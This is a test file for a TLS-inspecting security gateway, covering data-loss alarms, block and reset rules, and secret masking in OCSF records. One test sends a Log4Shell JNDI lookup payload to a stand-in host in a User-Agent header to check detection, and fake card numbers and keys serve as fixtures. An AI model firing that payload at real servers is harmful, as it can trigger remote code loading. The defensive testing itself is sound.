import { readdirSync, readFileSync } from 'node:fs';
import type { RequestListener, ServerResponse } from 'node:http';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { communityId } from '../../src/codec/community-id.ts';
import type { Address } from '../../src/core/endpoint.ts';
import { freePort, type RunningGateway, startGateway, waitUntil } from '../support/gateway.ts';
import { startOrigin, type TestOrigin } from '../support/https-origin.ts';
import { ocsfProblems } from '../support/ocsf.ts';
import {
  failureOf,
  flowOf,
  gatewayField,
  isFlow,
  isTransaction,
  type Line,
  labelOf,
  member,
  textOf,
} from '../support/record-fields.ts';
import { hasProgram, type Ran, run } from '../support/run.ts';
import { createTestAuthority } from '../support/test-authority.ts';
import { openTlsTunnel } from '../support/tunnel.ts';

const rules = `
- { id: test.allow.lab, title: The laboratory, severity: info, action: allow, when: { field: http.path, prefix: /lab/ } }
- id: test.block.moonbeam
  title: A secret project leaves
  severity: high
  action: block
  when: { field: http.request.body, contains: Project Moonbeam }
- id: test.block.minutes
  title: Secret minutes come in
  severity: high
  action: block
  when: { field: http.response.body, contains: Top Secret Minutes }
- id: test.block.header
  title: A forbidden header
  severity: low
  action: block
  when: { field: http.response.header.x-forbidden, exists: true }
- id: test.block.program
  title: Programs of this folder
  severity: medium
  action: block
  when: { all: [{ field: http.path, prefix: /programs/ }, { field: http.response.body, startsWithHex: 4d5a }] }
- { id: test.reset.request, title: Cut, severity: high, action: reset, when: { field: http.path, equals: /cut } }
- id: test.reset.response
  title: Cut on the way back
  severity: high
  action: reset
  when: { field: http.response.body, contains: cut here }
`;

let gateway: RunningGateway;
let origin: TestOrigin;
let plain: TestOrigin;
let stranger: TestOrigin;
let port: number;
/** Bodies as they reached the origin, by path. */
const received = new Map<string, string>();
/** Alarms on disk when the last of a request reached the origin, by path. */
const alarmsByThen = new Map<string, number>();

beforeAll(async () => {
  const authority = await createTestAuthority();
  const names = ['localhost', '127.0.0.1', 'gambling.test', 'www.prohibited.example'];
  origin = await startOrigin(await authority.issue({ names }), answer, {}, '0.0.0.0');
  plain = await startOrigin(undefined, answer);
  stranger = await startOrigin(await (await createTestAuthority('Stranger')).issue({ names }));
  port = await freePort();
  const starter = fileURLToPath(new URL('../../config/rules/*.yaml', import.meta.url));
  gateway = await startGateway({
    files: { 'roots.pem': authority.rootPem, 'rules.yaml': rules },
    config: {
      relays: 2,
      listeners: [{ mode: 'explicit', listen: `127.0.0.1:${port}` }],
      originTrust: { system: false, files: ['$DIRECTORY/roots.pem'] },
      bypass: [{ addresses: ['127.0.0.2/32'], reason: 'privacy' }],
      rules: { files: ['$DIRECTORY/rules.yaml', starter] },
    },
  });
});

afterAll(async () => {
  await gateway?.[Symbol.asyncDispose]();
  for (const one of [origin, plain, stranger]) await one?.[Symbol.asyncDispose]();
});

/** Answers by path; keeps what arrives, also of a request that is never complete. */
const answer: RequestListener = (request, response) => {
  const path = request.url ?? '';
  alarmsByThen.set(path, alarmsOf(path).length);
  received.set(path, '');
  request.on('error', () => {});
  request.on('data', (chunk: Buffer) => {
    alarmsByThen.set(path, alarmsOf(path).length);
    received.set(path, `${received.get(path)}${chunk.toString('latin1')}`);
  });
  const [status, headers, ...body] = answers[path] ?? [200, {}, `${request.method} ${path}\n`];
  request.on('end', () => {
    response.writeHead(status, headers);
    sendSlowly(response, body);
  });
};

/** Each part in a segment of its own, as far as the kernel lets it. */
function sendSlowly(response: ServerResponse, [part, ...more]: readonly (string | Buffer)[]): void {
  if (part === undefined || response.destroyed) return void response.end();
  response.write(part, () => setTimeout(() => sendSlowly(response, more), 20));
}

type Answer = readonly [status: number, headers: Record<string, string>, ...body: (string | Buffer)[]];
const program = Buffer.concat([Buffer.from('4d5a90000300000004000000ffff0000', 'hex'), Buffer.alloc(4_000, 7)]);
const answers: Readonly<Record<string, Answer>> = {
  '/header': [200, { 'X-Forbidden': 'yes' }, 'not to be seen'],
  '/programs/setup.exe': [200, { 'Content-Type': 'application/octet-stream' }, program],
  '/programs/slow.exe': [
    200,
    { 'Content-Type': 'application/octet-stream' },
    program.subarray(0, 1),
    program.subarray(1),
  ],
  '/downloads/setup.exe': [200, { 'Content-Type': 'application/octet-stream' }, program],
  '/minutes': [200, {}, 'Top Secret Minutes'],
  '/minutes-in-parts': [200, {}, 'the first part ', 'Top Sec', 'ret Min', 'utes and what follows'],
  '/cut-back': [200, {}, 'the first part ', 'cut ', 'here'],
  '/backup/.env': [200, {}, 'DB_HOST=db'],
  '/authorize?code=QueryCode21&state=x': [302, { Location: '/cb?code=LocationCode22&state=x' }, ''],
  '/form-post': [
    200,
    { 'Content-Type': 'text/html', 'Content-Encoding': 'gzip' },
    gzipSync(
      '<form><input name="code" value="PageCode23"><input name="state" value="x"><input name="SAMLResponse" value="PageSaml24"></form>',
    ),
  ],
  '/cookies': [200, { 'Set-Cookie': 'sid=SetCookieSecret77; HttpOnly' }, '{"password":"ResponsePassword66"}'],
};

const curl = (path: string, ...args: string[]): Promise<Ran> =>
  run('curl', [
    ...['-sS', '--max-time', '10', '--cacert', gateway.caFile, '--noproxy', '', '--proxy', `http://127.0.0.1:${port}`],
    ...args,
    path.startsWith('http') ? path : `https://localhost:${origin.port}${path}`,
  ]);
const rulesOf = (line: Line): string => String(gatewayField(line, 'rule'));
const evidenceOf = (alarm: Line | undefined): Line => (alarm?.evidences as readonly Line[] | undefined)?.[0] ?? {};
const pathOf = (line: Line): unknown =>
  member(isTransaction(line) ? line : evidenceOf(line), 'http_request', 'url', 'path');
/** Alarms of a path, as they are on disk now. */
const alarmsOf = (path: string): readonly Line[] => gateway.records('alarms').filter((line) => pathOf(line) === path);
async function transaction(path: string): Promise<Line> {
  const isMine = (line: Line): boolean => isTransaction(line) && pathOf(line) === path;
  const line = (await gateway.waitForRecords('traffic', (all) => all.some(isMine))).findLast(isMine);
  if (line === undefined) throw new Error(`no transaction ${path}`);
  return line;
}

describe.runIf(hasProgram('curl'))('an alarm', () => {
  it('of a card number is on disk before the request goes on', async () => {
    const ran = await curl('/pay', '-d', 'order=7&card=4111 1111 1111 1111&cvv=123');
    expect(ran).toEqual({ code: 0, stdout: 'POST /pay\n', stderr: '' });
    expect(received.get('/pay')).toContain('4111 1111 1111 1111');
    const [alarm, ...more] = alarmsOf('/pay');
    expect(more).toEqual([]);
    expect(alarm).toMatchObject({
      class_uid: 2004,
      is_alert: true,
      firewall_rule: { uid: 'daylight.dlp.card-number' },
    });
    expect(evidenceOf(alarm).data).toMatchObject({ field: 'http.request.body', offset: 13 });
    expect(alarmsByThen.get('/pay')).toBe(1);
    const traffic = await transaction('/pay');
    expect(alarm?.metadata).toMatchObject({ correlation_uid: flowOf(traffic), labels: ['Decryption Detection'] });
    expect(member(alarm, 'finding_info', 'related_events')).toContainEqual(
      expect.objectContaining({ uid: member(traffic, 'metadata', 'uid') }),
    );
    expect(traffic).toMatchObject({ is_alert: true, status_id: 1, firewall_rule: { uid: 'daylight.dlp.card-number' } });
    expect(traffic.unmapped).toMatchObject({ gateway: { verdict: 'allow', matches: 1, alarms: 1, complete: true } });
  });

  it('of a request head is on disk before the origin sees the request', async () => {
    const ran = await curl('/log', '-H', `User-Agent: $${'{'}jndi:ldap://evil.test/a}`);
    expect(ran.stdout).toBe('GET /log\n');
    expect(alarmsOf('/log').map(rulesOf)).toEqual(['daylight.attack.log4shell']);
    expect(alarmsByThen.get('/log')).toBe(1);
  });

  it.each([
    ['/downloads/setup.exe', 'daylight.malware.executable'],
    ['/backup/.env', 'daylight.exposure.sensitive-file'],
  ])('of what comes in (%s) lets it pass', async (path, rule) => {
    const ran = await curl(path);
    expect(ran.code).toBe(0);
    expect(ran.stdout).not.toBe('');
    expect(alarmsOf(path).map(rulesOf)).toEqual([rule]);
  });

  it('is not raised by what an allow rule before it has allowed', async () => {
    const ran = await curl('/lab/upload', '-d', 'Project Moonbeam, card 4111111111111111');
    expect(ran.stdout).toBe('POST /lab/upload\n');
    expect(alarmsOf('/lab/upload')).toEqual([]);
    expect(await transaction('/lab/upload')).toMatchObject({ firewall_rule: { uid: 'test.allow.lab' }, status_id: 1 });
  });
});

describe.runIf(hasProgram('curl'))('a block', () => {
  const status = ['-o', '-', '-w', '\n%{http_code} %{content_type}'];

  it('of a request body shows a page with the rule, and the origin gets none of it', async () => {
    const ran = await curl('/leak', '-d', 'all about Project Moonbeam', '-H', 'Accept: text/html', ...status);
    expect(ran.stdout).toContain('403 text/html');
    expect(ran.stdout).toContain('test.block.moonbeam');
    // Already on disk when the client reads the page.
    expect(alarmsOf('/leak').map(rulesOf)).toEqual(['test.block.moonbeam']);
    expect(received.get('/leak') ?? '').not.toContain('Project');
    const line = await transaction('/leak');
    expect(line).toMatchObject({
      status_code: 'POLICY_RULE_BLOCK',
      disposition_id: 2,
      firewall_rule: { uid: 'test.block.moonbeam' },
      http_response: { code: 403 },
    });
    expect(line.unmapped).toMatchObject({
      gateway: { verdict: 'block', failure: 'POLICY_RULE_BLOCK', answered: 403, complete: false },
    });
  });

  it('answers in JSON whoever asks for it', async () => {
    const ran = await curl('/leak-json', '-d', 'Project Moonbeam', '-H', 'Accept: application/json', ...status);
    const [body = '', code] = ran.stdout.split('\n\n');
    expect(code).toBe('403 application/json');
    expect(JSON.parse(body)).toMatchObject({ code: 'POLICY_RULE_BLOCK', rule: { id: 'test.block.moonbeam', rev: 1 } });
    expect(JSON.parse(body)).toMatchObject({ flowId: flowOf(await transaction('/leak-json')) });
  });

  it('keeps back the chunk that completes a match across chunk borders', async () => {
    const client = await openTlsTunnel(port, `localhost:${origin.port}`, { ca: readFileSync(gateway.caFile) });
    const heard: Buffer[] = [];
    client.on('data', (chunk: Buffer) => heard.push(chunk));
    const arrived = (part: string) =>
      waitUntil(
        () => (received.get('/parts') ?? '').endsWith(part),
        () => String(received.get('/parts')),
      );
    client.write(
      `POST /parts HTTP/1.1\r\nHost: localhost:${origin.port}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nnotes\r\n`,
    );
    await arrived('notes');
    client.write('c\r\n about Proje\r\n');
    await arrived('Proje');
    client.write('a\r\nct Moonbea\r\n');
    await arrived('Moonbea');
    client.write('8\r\nm, alas!\r\n');
    await waitUntil(
      () => Buffer.concat(heard).includes('test.block.moonbeam'),
      () => Buffer.concat(heard).toString(),
    );
    expect(Buffer.concat(heard).toString()).toMatch(/^HTTP\/1\.1 403 /);
    client.destroy();
    expect(gatewayField(await transaction('/parts'), 'verdict')).toBe('block');
    expect(received.get('/parts')).toBe('notes about Project Moonbea');
  });

  it.each([
    ['gambling.test', 'https'],
    ['www.prohibited.example', 'https'],
    ['www.gambling.test', 'http'],
  ])('of a prohibited site (%s, %s) lets nothing through', async (host, scheme) => {
    const before = [origin.bytesReceived(), plain.connections()];
    const to = ['--connect-to', `${host}:443:localhost:${origin.port}`];
    const ran = await curl(`${scheme}://${host}/sites-${scheme}?a`, ...(scheme === 'https' ? to : []), ...status);
    expect(ran.stdout).toContain('403 text/html');
    expect(ran.stdout).toContain('daylight.sites.prohibited');
    expect([origin.bytesReceived(), plain.connections()]).toEqual(before);
    expect(alarmsOf(`/sites-${scheme}`).at(-1)?.firewall_rule).toMatchObject({ uid: 'daylight.sites.prohibited' });
  });

  it.each([
    ['/header', 'test.block.header'],
    ['/programs/setup.exe', 'test.block.program'],
    ['/minutes', 'test.block.minutes'],
  ])('of a response (%s) gives the client the page in its place', async (path, rule) => {
    const ran = await curl(path, ...status);
    expect(ran.stdout).toContain('403 text/html');
    expect(ran.stdout).toContain(rule);
    // Of the program what no flow's ULID can hold: the two letters that it begins with stand in some of them.
    for (const secret of ['not to be seen', program.toString('latin1', 20, 28), 'Top Secret Minutes'])
      expect(ran.stdout).not.toContain(secret);
    expect(alarmsOf(path).map(rulesOf)).toContain(rule);
    // What the origin answered stands in the record all the same.
    const line = await transaction(path);
    expect(line).toMatchObject({ http_response: { code: 200 }, status_code: 'POLICY_RULE_BLOCK' });
    expect(gatewayField(line, 'answered')).toBe(403);
  });

  it.each([
    ['/minutes-in-parts', 'Top Secret Minutes', 'the first part Top Secret Min'],
    ['/programs/slow.exe', 'MZ', 'M'],
  ])('of a response that has begun (%s) cuts it before the match is whole', async (path, whole, begun) => {
    const ran = await curl(path, '--raw');
    expect([18, 56]).toContain(ran.code);
    expect(ran.stdout).not.toContain(whole);
    expect(ran.stdout.replaceAll(/\r\n|^[0-9a-f]+\r\n/gm, '').length).toBeLessThanOrEqual(begun.length);
    expect(failureOf(await transaction(path))).toBe('POLICY_RULE_BLOCK');
  });
});

describe.runIf(hasProgram('curl'))('a reset', () => {
  it('ends the connection without an answer, and the origin hears nothing', async () => {
    const before = origin.bytesReceived();
    const ran = await curl('/cut');
    expect([52, 55, 56]).toContain(ran.code);
    expect(ran.stdout).toBe('');
    expect(origin.bytesReceived()).toBe(before);
    expect(alarmsOf('/cut').map(rulesOf)).toEqual(['test.reset.request']);
    const line = await transaction('/cut');
    expect(line).toMatchObject({ status_code: 'POLICY_RULE_RESET', action_id: 2 });
    expect(gatewayField(line, 'verdict')).toBe('reset');
  });

  it('cuts a response where the match becomes whole', async () => {
    const ran = await curl('/cut-back');
    expect([18, 56]).toContain(ran.code);
    expect(ran.stdout).not.toContain('cut here');
    expect(failureOf(await transaction('/cut-back'))).toBe('POLICY_RULE_RESET');
  });
});

describe.runIf(hasProgram('curl'))('the records', () => {
  it('label each flow by what there was to inspect', async () => {
    await curl('/label-decrypted');
    await curl(`http://127.0.0.1:${plain.port}/label-plain`);
    await curl(`https://127.0.0.2:${origin.port}/label-bypass`, '-k');
    await curl(`https://localhost:${stranger.port}/label-failed`);
    await curl('https://localhost:1/label-down');
    expect(labelOf(await transaction('/label-decrypted'))).toBe('Decryption Detection');
    expect(labelOf(await transaction('/label-plain'))).toBe('Plaintext');
    const flowTo = async (address: object): Promise<string> => {
      const isMine = (line: Line): boolean =>
        isFlow(line) && Object.entries(address).every(([name, value]) => member(line, 'dst_endpoint', name) === value);
      return labelOf((await gateway.waitForRecords('traffic', (all) => all.some(isMine))).find(isMine));
    };
    expect(await flowTo({ ip: '127.0.0.2', port: origin.port })).toBe('Bypass');
    expect(await flowTo({ hostname: 'localhost', port: stranger.port })).toBe('Metadata Detection');
    expect(await flowTo({ hostname: 'localhost', port: 1 })).toBe('Metadata Detection');
    const labels = [...gateway.records('traffic'), ...gateway.records('alarms')].map(labelOf);
    expect([...new Set(labels)].toSorted()).toEqual([
      'Bypass',
      'Decryption Detection',
      'Metadata Detection',
      'Plaintext',
    ]);
  });

  it('hold no secret, in whatever part of an exchange it stood', async () => {
    const secrets = [
      'BearerSecret11',
      'CookieSecret22',
      'FormPassword33',
      'QueryToken44',
      'ApiKey55',
      'ResponsePassword66',
      'SetCookieSecret77',
      'JsonSecret88',
      'UserPass99',
      'ProxyPass00',
      '4111111111111111',
      '5500005555555559',
      'AKIAIOSFODNN7ABCDEFG',
      'MIIEpAIBAAKCAQEA7',
      'QueryCode21',
      'LocationCode22',
      'PageCode23',
      'PageSaml24',
      'RefererCode25',
      'FormCode26',
      'FormVerifier27',
      'JsonCode28',
      'QueryPin29',
    ];
    const headers = [
      'Authorization: Bearer BearerSecret11',
      'Cookie: sid=CookieSecret22',
      'X-Api-Key: ApiKey55',
      'Referer: https://u:UserPass99@localhost/?token=QueryToken44&code=RefererCode25&state=x',
    ].flatMap((header) => ['-H', header]);
    const key = ['-----BEGIN', 'RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7\n'].join(' ');
    const bodies = [
      'password=FormPassword33&card=4111111111111111',
      '{"client_secret":"JsonSecret88","card":"5500005555555559"}',
      key,
      'aws AKIAIOSFODNN7ABCDEFG',
      'grant_type=authorization_code&code=FormCode26&code_verifier=FormVerifier27',
      '{"grant_type":"authorization_code","code":"JsonCode28"}',
    ];
    const uploads = bodies.flatMap((body, index) => [
      curl(`/secrets-${index}?access_token=QueryToken44&card=4111111111111111&pin=QueryPin29`, ...headers, '-d', body),
      curl(`http://127.0.0.1:${plain.port}/plain-secrets-${index}`, ...headers, '-U', 'u:ProxyPass00', '-d', body),
    ]);
    for (const ran of await Promise.all(uploads)) expect(ran.code).toBe(0);
    await curl('/cookies');
    await curl('/authorize?code=QueryCode21&state=x');
    await curl('/form-post');
    await curl('/leak-with-secrets', ...headers, '-d', 'password=FormPassword33 Project Moonbeam 4111111111111111');
    for (const path of ['/secrets-5', '/plain-secrets-5', '/authorize', '/form-post', '/cookies', '/leak-with-secrets'])
      await transaction(path);
    const directory = join(gateway.directory, 'records');
    const raw =
      readdirSync(directory)
        .map((file) => readFileSync(join(directory, file), 'utf8'))
        .join('') + gateway.log();
    const encodings = (secret: string) => [
      secret,
      Buffer.from(`u:${secret}`).toString('base64'),
      Buffer.from(secret).toString('hex'),
    ];
    expect(secrets.flatMap(encodings).filter((secret) => raw.includes(secret))).toEqual([]);
    // Masked, not left out: who looks for the kind of secret still finds it.
    expect(raw).toContain('Bearer ****');
    expect(raw).toContain('411111******1111');
    expect(raw).toContain('/cb?code=****&state=x');
    expect(raw).toContain('name=\\"code\\" value=\\"****\\"');
    expect(alarmsOf('/secrets-0').map(rulesOf).toSorted()).toEqual([
      'daylight.dlp.card-number',
      'daylight.dlp.card-number-in-query',
    ]);
  });

  it('are valid OCSF, joined by flow, and numbered without a gap', async () => {
    expect(await gateway.stop()).toBe(0);
    const traffic = gateway.records('traffic');
    const alarms = gateway.records('alarms');
    expect(traffic.length).toBeGreaterThan(30);
    for (const line of [...traffic, ...alarms])
      expect({ problems: ocsfProblems(line), line }).toEqual({ problems: [], line });
    const flows = new Set(traffic.filter(isFlow).map(flowOf));
    expect([...traffic, ...alarms].filter((line) => !flows.has(flowOf(line))).map(textOf)).toEqual([]);
    for (const lines of [traffic, alarms]) {
      const sources = Map.groupBy(lines, (line) => String(member(line, 'metadata', 'log_source')));
      expect(sources.size).toBeLessThanOrEqual(2);
      for (const of of sources.values()) {
        const numbers = of.map((line) => Number(member(line, 'metadata', 'sequence'))).toSorted((a, b) => a - b);
        expect(numbers).toEqual(numbers.map((_, index) => index));
      }
    }
  });

  it('name both connections as sensors on their wires do', () => {
    const address = (text: unknown) => {
      const [ip = '', at = ''] = String(text).split(':');
      return { ip, port: Number(at) };
    };
    const opened = gateway.records('traffic').filter((line) => gatewayField(line, 'origin') !== undefined);
    expect(opened.length).toBeGreaterThan(30);
    for (const line of opened) {
      const { src_endpoint: client, proxy_endpoint: proxy } = line as {
        src_endpoint: Address;
        proxy_endpoint: Address;
      };
      const [local, origin] = [gatewayField(line, 'origin_local'), gatewayField(line, 'origin')].map(address);
      expect(member(line, 'connection_info', 'community_uid')).toBe(communityId(client, proxy));
      expect(member(line, 'proxy_connection_info', 'community_uid')).toBe(
        communityId(local ?? client, origin ?? client),
      );
    }
  });

  it('of one flow agree with each other', () => {
    const traffic = gateway.records('traffic');
    for (const flow of traffic.filter(isFlow)) {
      const own = traffic.filter((line) => isTransaction(line) && flowOf(line) === flowOf(flow));
      const alarms = gateway.records('alarms').filter((line) => flowOf(line) === flowOf(flow));
      expect([gatewayField(flow, 'transactions'), gatewayField(flow, 'alarms')]).toEqual([own.length, alarms.length]);
    }
  });
});
